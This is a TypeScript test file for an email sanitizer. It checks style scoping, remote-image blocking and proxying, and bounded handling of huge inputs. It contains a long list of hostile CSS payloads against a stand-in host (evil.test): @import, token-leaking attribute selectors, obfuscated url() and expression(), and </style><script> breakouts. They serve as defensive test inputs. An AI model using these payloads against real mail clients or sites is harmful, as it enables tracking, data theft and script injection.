import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { dangersIn } from "#test/html-dangers.ts";
import { type SanitizeOptions, sanitizeHtml } from "./sanitize.ts";

const block: SanitizeOptions = { remoteImages: "block" };
const shownSheet = (css: string, options = block) =>
  /^<style>([^<]*)<\/style>/.exec(sanitizeHtml(`<style>${css}</style><p class="a">x</p>`, options).html)?.[1] ?? "";

describe("rules of a mail's style sheet", () => {
  test("Outlook's paragraphs keep their margins, in comments for old browsers", () => {
    const { html } = sanitizeHtml(
      `<html><head><style><!-- /* Font Definitions */ @font-face {font-family:Calibri; panose-1:2 15 5 2 2 2 4 3 2 4;}
       p.MsoNormal, li.MsoNormal, div.MsoNormal {margin:0in; font-size:11.0pt; font-family:"Calibri",sans-serif; mso-fareast-language:EN-US;}
       a:link, span.MsoHyperlink {mso-style-priority:99; color:#0563C1; text-decoration:underline;}
       @page WordSection1 {size:8.5in 11.0in;} div.WordSection1 {page:WordSection1;} --></style>
       <!--[if gte mso 9]><style>p{display:none}</style><![endif]--></head><body lang=EN-US><p class=MsoNormal>Hi</p></body></html>`,
      block,
    );
    expect(html).toContain(
      '.ib-mail p.MsoNormal,.ib-mail li.MsoNormal,.ib-mail div.MsoNormal{margin: 0in;font-size: 11.0pt;font-family: "Calibri",sans-serif}',
    );
    expect(html).toContain(".ib-mail a:link,.ib-mail span.MsoHyperlink{text-decoration: underline}");
    expect(html).toContain('<p class="MsoNormal">Hi</p>');
    expect(html).not.toMatch(/Font Definitions|font-face|page|display/);
  });

  test("a newsletter shows one of its two versions, and the other on a narrow screen", () => {
    const css = `.mobile{display:none!important} @media only screen and (max-width:600px){.desktop{display:none} .mobile{display:block!important}}`;
    const { html } = sanitizeHtml(
      `<style>${css}</style><div class="desktop x">A</div><div class="mobile">B</div>`,
      block,
    );
    expect(html).toContain(".ib-mail .mobile{display: none !important}");
    expect(html).toContain("@media only screen and (max-width:600px){.ib-mail .desktop{display: none}}");
    // Classes that no rule names are left out.
    expect(html).toContain('<div class="desktop">A</div><div class="mobile">B</div>');
  });

  test.each([
    ["body{margin:0} html{color:red}", ".ib-mail .ib-body{margin: 0}\n.ib-mail{color: red}"],
    ["html > body.x p{margin:0}", ".ib-mail>.ib-body.x p{margin: 0}"],
    ["#a b{margin:0}", ".ib-mail .ib-id-a.ib-id-a.ib-id-a b{margin: 0}"],
    ["*{margin:0}", ".ib-mail *{margin: 0}"],
    ['*[class="a"]{margin:0}', ".ib-mail *.a{margin: 0}"],
    ["td[class*=mobile]{margin:0}", '.ib-mail td[class*="mobile"]{margin: 0}'],
    ["td:nth-child(2n+1){margin:0}", ".ib-mail td:nth-child(2n+1){margin: 0}"],
    ["td:nth-child(odd) , x|y, ::before{margin:0}", ".ib-mail td:nth-child(odd){margin: 0}"],
    ["@media screen{p{margin:0}}", ".ib-mail p{margin: 0}"],
    ["@media (prefers-color-scheme: light){p{margin:0}}", ".ib-mail p{margin: 0}"],
    ["@media (prefers-color-scheme: dark){p{margin:0}} @media print{p{margin:0}}", ""],
    ["p{margin:0", ".ib-mail p{margin: 0}"],
    ["@supports (display:grid){.a{display:none}}", ".ib-mail .a{display: none}"],
    ["@supports (-webkit-overflow-scrolling:touch){.a{display:none}}", ""],
    ["@supports not (display:grid){.a{display:none}}", ""],
    [
      "@layer base, mail; @layer mail{.a{display:none}} @layer{p{margin:0}}",
      ".ib-mail .a{display: none}\n.ib-mail p{margin: 0}",
    ],
    [
      "@media (max-width:600px){@supports (display:flex){@layer x{.a{margin:0}}}}",
      "@media (max-width:600px){.ib-mail .a{margin: 0}}",
    ],
    ["p{position:absolute;left:-9999px}", ".ib-mail p{display: none}"],
    [
      "p{width:calc(100% - 20px);background:linear-gradient(90deg, rgba(0,0,0,.5) 0%, #fff)}",
      ".ib-mail p{width: calc(100% - 20px);background: linear-gradient(90deg, rgba(0,0,0,.5) 0%, #fff)}",
    ],
    ["p{font:12px/1.5 '微软雅黑', Arial}", ".ib-mail p{font: 12px/1.5 '微软雅黑', Arial}"],
  ])("%s", (css, expected) => {
    expect(shownSheet(css)).toBe(expected);
  });

  test("an id becomes a class, and the mail cannot use our own", () => {
    const { html } = sanitizeHtml('<style>#a{margin:0}.b{margin:0}</style><p id="a" class="b ib-mail c">x</p>', block);
    expect(html).toContain('<p class="b ib-id-a">x</p>');
  });

  test("a forwarded mail that we sanitized keeps its rules when it is read, also if it is forwarded twice", () => {
    const own = '<style>.pre{display:none} html{margin:0} #a{margin:1px}</style><p class="pre" id="a">x</p>';
    const forward = (html: string) =>
      `<p>See below</p><div>${sanitizeHtml(html, { remoteImages: "allow" }).html}</div>`;
    const once = sanitizeHtml(forward(own), block).html;
    expect(once).toContain(
      ".ib-mail .x-ib-mail .pre{display: none}\n.ib-mail .x-ib-mail{margin: 0}\n.ib-mail .x-ib-mail .x-ib-id-a.x-ib-id-a.x-ib-id-a{margin: 1px}",
    );
    expect(once).toContain('<div class="x-ib-mail"><div><p class="pre x-ib-id-a">x</p></div></div>');
    const twice = sanitizeHtml(forward(forward(own)), block).html;
    expect(twice).toContain(".ib-mail .x-ib-mail .x-x-ib-mail .pre{display: none}");
    expect(twice).toMatch(/<div class="ib-mail">.*<div class="x-ib-mail">.*<div class="x-x-ib-mail">.*<p class="pre /s);
    expect([once, twice].flatMap((html) => dangersIn(html))).toEqual([]);
  });

  test("a mail that names our classes styles only its own elements", () => {
    const { html } = sanitizeHtml(
      "<style>.ib-mail,.ib-body,.ib-id-a,[class~=ib-mail]{margin:0}</style><p class='ib-mail ib-body' id=a>x</p>",
      block,
    );
    expect(html).toBe(
      '<style>.ib-mail .x-ib-mail,.ib-mail .x-ib-body,.ib-mail .x-ib-id-a{margin: 0}</style><div class="ib-mail"><div class="ib-body"><p class="x-ib-mail x-ib-body">x</p></div></div>',
    );
  });

  test("the media of a style element apply to its rules", () => {
    const sheet =
      '<style media="print">p{margin:0}</style><style media="screen and (max-width: 400px)">p{margin:1px}</style>';
    expect(sanitizeHtml(sheet, block).html).toContain(
      "<style>@media screen and (max-width: 400px){.ib-mail p{margin: 1px}}</style>",
    );
  });
});

describe("pictures in styles", () => {
  const mail = `<style>.a{background:url(https://x.test/1.png) no-repeat #fff} p:hover{background:url(https://x.test/no.png)}</style>
    <body background="//x.test/2.png"><p style="background-image: url('https://x.test/3.png?a=1&amp;b=2')">x</p>
    <td style="background: url(cid:logo) red; color: red">y</td><p style="list-style: url(data:image/png;base64,iVBORw0KGgo=)">z</p>`;

  test("are blocked and counted until the reader asks", () => {
    const { html, blockedImages } = sanitizeHtml(mail, block);
    expect(blockedImages).toBe(3);
    expect(html).not.toContain("x.test");
    expect(html).toContain(".ib-mail .a{background: no-repeat #fff}");
    expect(html).toContain('<td style="background: red; color: red">');
    expect(dangersIn(html)).toEqual([]);
  });

  test("are loaded by our proxy once they are allowed, and the mail's own are shown", () => {
    const proxy = { path: "/api/mail/image", key: "a2V5", reader: "r", expires: 1 };
    const { html, blockedImages } = sanitizeHtml(mail, {
      ...{ remoteImages: "allow", proxy },
      images: { logo: "data:image/png;base64,AAAA" },
    });
    expect(blockedImages).toBe(0);
    expect(html.match(/url\((?:"|&quot;)\/api\/mail\/image\?u=https%3A%2F%2Fx\.test%2F[123]/g)).toHaveLength(3);
    expect(html).toContain("background: url(&quot;data:image/png;base64,AAAA&quot;) red");
    expect(html).not.toMatch(/no\.png/);
  });

  test("one embedded picture cannot be repeated without end", () => {
    const images = { a: `data:image/png;base64,${"A".repeat(1_000_000)}` };
    const { html } = sanitizeHtml('<img src="cid:a"><p style="background:url(cid:a)">x</p>'.repeat(20), {
      ...block,
      images,
    });
    expect(html.length).toBeLessThan(13_000_000);
  });
});

/** Sheets that try to load, run, read, cover or escape. Each is tried as a sheet and, if it has no rules, as a style attribute. */
const attacks = [
  "@import 'https://evil.test/a.css';",
  "@import url(//evil.test/a.css) screen;",
  "@\\69mport 'https://evil.test/a.css';",
  "@charset 'utf-7'; @import '//evil.test/a.css';",
  "<!-- --> @import '//evil.test/a.css'; <!--",
  "@font-face{font-family:x;src:url(https://evil.test/f.woff)} p{font-family:x}",
  "@font-face{font-family:x;src:local(a),url(https://evil.test/f.woff);unicode-range:U+0041} p{font-family:x}",
  "@font-face{font-family:x;src:url(//evil.test/f);unicode-range:u+61-7a}",
  "@namespace url(http://www.w3.org/2000/svg); p{color:red}",
  "@namespace svg 'https://evil.test'; svg|a{color:red}",
  "@layer a{@import url(//evil.test); p{background:url(//evil.test/a)}}",
  "@layer a, b; @layer a{p{position:fixed}}",
  "@container (min-width:1px){p{background:url(//evil.test/a)}}",
  "@property --x{syntax:'<url>';inherits:true;initial-value:url(//evil.test)}",
  "@supports (display:grid){p{background:url(//evil.test/a)}}",
  "@counter-style x{system:cyclic;symbols:url(//evil.test/a)}",
  "@keyframes x{from{background:url(//evil.test/a)}} p{animation:x 1s}",
  "@page{background:url(//evil.test/a)}",
  "@scope (p){a{background:url(//evil.test/a)}}",
  "@starting-style{p{background:url(//evil.test/a)}}",
  "@view-transition{navigation:auto}",
  "@document url(https://evil.test){p{color:red}}",
  "@-moz-document url-prefix(){p{background:url(//evil.test/a)}}",
  "@media screen and (min-resolution:1dpi){p{background:url(//evil.test/a)}}",
  "@media (hover:hover){p{background:url(//evil.test/a)}}",
  "@media (max-width:600px){@import '//evil.test'; p{background:url(//evil.test/a)}}",
  "@media all and (width>0){p{background:url(//evil.test/a)}}",
  "@media \\0screen{p{background:url(//evil.test/a)}}",
  "a[href*='token=a']{background:url(https://evil.test/a)}",
  "input[value^=a]{background:url(https://evil.test/a)}",
  "[class^=a]{background:url(https://evil.test/a)}",
  "p:has(a[href^='https://x']){background:url(//evil.test/a)}",
  "p:not([title=x]){background:url(//evil.test/a)}",
  "a:visited{background:url(//evil.test/a)}",
  "p:hover::after{content:url(//evil.test/a)}",
  "p::before{content:attr(title) url(//evil.test/a)}",
  ":target{background:url(//evil.test/a)}",
  ":root{--a:url(//evil.test/a)} p{background:var(--a)}",
  "p{--x:url(//evil.test/a);background:var(--x)}",
  "p{background:var(--x,url(//evil.test/a))}",
  "p{background:image-set('https://evil.test/a' 1x)}",
  "p{background:-webkit-image-set(url(//evil.test/a) 1x)}",
  "p{background:image(url(//evil.test/a))}",
  "p{background:cross-fade(url(//evil.test/a),url(//evil.test/b),50%)}",
  "p{background:element(#a)}",
  "p{background:paint(x)}",
  "p{background:src('//evil.test/a')}",
  "p{background:u\\72l(//evil.test/a)}",
  "p{background:\\75\\72\\6c(//evil.test/a)}",
  "p{background:ur/**/l(//evil.test/a)}",
  "p{background:url/**/(//evil.test/a)}",
  "p{background:url(/**//evil.test/a)}",
  "p{background:url('//evil.test/a'",
  'p{background:url("//evil.test/a\n)}',
  "p{background:url(javascript:alert(1))}",
  "p{background:url(data:image/svg+xml,<svg onload=alert(1)>)}",
  "p{background:url('data:text/html,<script>alert(1)</script>')}",
  "p{background:ＵＲＬ(//evil.test/a)}",
  "p{b\\61ckground:url(//evil.test/a)}",
  "p{behavior:url(//evil.test/x.htc)}",
  "v\\:*{behavior:url(#default#VML)}",
  "p{-moz-binding:url(//evil.test/x.xml#a)}",
  "p{width:expression(alert(1))}",
  "p{width:exp/**/ression(alert(1))}",
  "p{width:e\\78pression(alert(1))}",
  "p{filter:url(//evil.test/a.svg#b)}",
  "p{filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='//evil.test/a')}",
  "p{mask:url(//evil.test/a)} p{clip-path:url(//evil.test/a#b)} p{cursor:url(//evil.test/a),auto}",
  "p{border-image:url(//evil.test/a) 30} p{shape-outside:url(//evil.test/a)} p{offset-path:url(//evil.test/a)}",
  "p{position:fixed;inset:0;z-index:2147483647}",
  "p{position:sticky;top:0}",
  "p{pos\\69tion:fixed}",
  "p{all:unset;display:block;transform:scale(50)}",
  "p{height:100vh;width:100dvw;min-height:1svh}",
  "p{anchor-name:--a;position-anchor:--a}",
  "html,body,:root{display:none;position:fixed;height:100%}",
  "p{color:red;}}}}}} p{position:fixed}",
  "p{color:red;a{position:fixed;&:hover{background:url(//evil.test/a)}}}",
  "p{color:red</style><script>alert(1)</script>",
  "p{font-family:'</style><img src=x onerror=alert(1)>'}",
  'p{font-family:"}</style><svg onload=alert(1)>"}',
  "p{color:red}/*</style><img src=//evil.test/a>*/",
  "p{font-family:'a\\27};p{position:fixed}'}",
  "p{color:red;\\7d;position:fixed}",
  "</style><style>@import '//evil.test'</style>",
  "p{color:\0red;background:u\0rl(//evil.test/a)}",
  "p{;;;:;{}[](;background:url(//evil.test/a)}",
  "p/**/{background/**/:/**/url(//evil.test/a)/**/!important}",
  "p:is(:is(:is(a))),p{background:url(ftp://evil.test/a)}",
  "svg style{color:red} svg{background:url(//evil.test/a)}",
  "p{background:url(https://user:pass@evil.test/a)}",
  "p{color:env(x);background:attr(data-x url)}",
  "p{quotes:'a' 'b';content:open-quote}",
  "p{color:red!ie;background:red!\\69mportant}",
];

test.each(attacks.map((css, at) => [at, css] as const))(
  "hostile sheet %i loads, runs, reads and covers nothing: %s",
  (_at, css) => {
    const forms = [
      `<style>${css}</style><p class="a">x</p>`,
      `<svg><style>${css}</style></svg><p>x</p>`,
      `<p style="${css.replace(/^[^{]*\{/, "").replaceAll('"', "&quot;")}">x</p>`,
      `<head><style>/*<!--*/${css}`,
    ];
    for (const html of forms) {
      const blocked = sanitizeHtml(html, block);
      expect(dangersIn(blocked.html)).toEqual([]);
      expect(blocked.html.replace(/ data-remote-src="[^"]*"/g, "")).not.toContain("evil.test");
      expect(dangersIn(sanitizeHtml(html, { remoteImages: "allow" }).html, "allow")).toEqual([]);
    }
  },
);

test("any mixture of hostile sheets loads, runs, reads and covers nothing", () => {
  const piece = fc.oneof(
    fc.constantFrom(...attacks),
    fc.string({ maxLength: 20 }),
    fc.constantFrom(
      "{",
      "}",
      "(",
      ")",
      "/*",
      "*/",
      "'",
      '"',
      "\\",
      ";",
      ":",
      "@media screen{",
      "<!--",
      "</style>",
      "<style>",
      "url(",
      "\0",
    ),
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 6 }), (pieces) => {
      const css = pieces.join("");
      expect(dangersIn(sanitizeHtml(`<style>${css}</style><p style='${css}'>x`, block).html)).toEqual([]);
    }),
    { numRuns: 500 },
  );
});

test.each([
  ["rules", "a.b{color:red}".repeat(70_000)],
  ["nesting", "@media screen{".repeat(20_000)],
  ["brackets", `p{color:${"(".repeat(100_000)}`],
  ["unclosed comments", `p{color:red}${"/*".repeat(100_000)}`],
  ["errors", `p{${"b c;".repeat(50_000)}`],
  ["selectors", `${"a,".repeat(99_000)}a{color:red}`],
  ["negations", `${":not(".repeat(40_000)}`],
  ["sheets", "<style>p{color:red}</style>".repeat(20_000)],
  ["one style", `</style><p style="${"color:red;".repeat(100_000)}">`],
])("a sheet of hostile %s is bounded", (_name, css) => {
  const { html } = sanitizeHtml(`<style>${css}</style><p>Seen</p>`, block);
  expect(dangersIn(html)).toEqual([]);
  expect(html).toContain("Seen");
  expect(html.length).toBeLessThan(300_000);
});
